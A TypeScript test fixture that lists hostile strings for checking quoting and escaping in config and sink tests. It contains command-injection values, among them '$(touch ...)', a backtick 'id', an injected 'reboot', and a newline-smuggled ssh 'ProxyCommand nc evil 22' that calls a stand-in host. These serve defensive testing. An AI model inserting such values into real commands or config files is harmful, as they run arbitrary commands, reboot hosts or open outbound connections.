/**
 * Hostile strings shared by the config suite and the sink tests: quotes, newlines, `$(…)`, `;`,
 * `}`, spaces, backslashes and variable expansions.
 */
export const HOSTILE = [
    "$(touch /tmp/ouvroir-pwned)",
    "`id`",
    'a"; reboot; "',
    "a'b",
    "line\nProxyCommand nc evil 22",
    "a;b",
    "a}b",
    "a b",
    "a\\b",
    "${HOME}",
] as const;
